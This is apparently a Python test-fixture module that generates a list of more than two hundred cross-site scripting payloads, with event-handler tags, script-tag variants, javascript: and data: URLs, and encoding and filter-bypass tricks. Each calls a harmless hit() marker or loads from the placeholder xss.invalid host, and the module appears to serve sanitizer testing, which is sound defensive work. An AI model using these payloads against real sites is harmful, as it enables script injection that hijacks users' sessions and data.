"""Texts that would run something if a page or a document showed them as markup.

Each calls ``hit()`` or reaches for ``xss.invalid``, so that a page that lets one through is found whether
its policy stops the script or not.
"""

RUN = "hit()"

_HANDLERS = (
    "onload onerror onclick onfocus onblur onmouseover onmouseenter onpointerdown onanimationstart "
    "ontransitionend ontoggle onbeforetoggle onscroll onwheel oncopy onpaste oninput onkeydown onpageshow "
    "onhashchange onmessage onsubmit onbegin onstart onfinish"
).split()
_TAGS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "marquee", "a href=#")
_BREAKS = ("", '">', "'>", "-->", "</textarea>", "</title>", "</style>", "</script>", "]]>", "</select>")
_SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    "<script src=//xss.invalid/a.js></script>",
    f"<script/xss>{RUN}</script>",
    f"<script\n>{RUN}</script\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
)
_ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "//xss.invalid/x",
)
_FRAMES = (
    "<iframe src={}></iframe>",
    "<object data={}></object>",
    "<embed src={}>",
    "<form action={}><button>x</button></form>",
    "<a href={}>x</a>",
    "[x]({})",
    "![x]({})",
    "<meta http-equiv=refresh content=0;url={}>",
    "<base href={}>",
    "<link rel=stylesheet href={}>",
)
_OTHERS = (
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "<style>@import '//xss.invalid/a.css';</style>",
    "<p style=background:url(//xss.invalid/a.png)>x</p>",
    f"<img src='x' onerror='{RUN}'",
    f"<<img src=x onerror={RUN}>>",
    f"<img/src=x/onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><img src=x onerror={RUN}></template>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"%3Cimg%20src%3Dx%20onerror%3D{RUN}%3E",
    f"\\u003cimg src=x onerror={RUN}\\u003e",
    "\uff1cimg src=x onerror=hit()\uff1e",
    f"{{{{ {RUN} }}}}",
    f"${{{RUN}}}",
    f"{{% debug %}}{RUN}",
    f"';{RUN};//",
    f'";{RUN};//',
    f"`${{{RUN}}}`",
    f"<x contenteditable onblur={RUN} tabindex=1>x</x>",
    f"<svg><animate onbegin={RUN} attributeName=x></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x><script>{RUN}</script></svg>#x'></svg>",
)

PAYLOADS: tuple[str, ...] = (
    *(f"<{tag} {handler}={RUN}>" for handler in _HANDLERS for tag in _TAGS[:5]),
    *(f"{start}<{tag} onerror={RUN} onload={RUN}>" for start in _BREAKS for tag in _TAGS[:3]),
    *(start + script for start in _BREAKS[:3] for script in _SCRIPTS),
    *(frame.format(address) for frame in _FRAMES for address in _ADDRESSES),
    *(f"x{quote} {handler}={RUN} y={quote}" for quote in ("'", '"', "`") for handler in _HANDLERS[:6]),
    *_OTHERS,
)
"""At least two hundred, all different."""
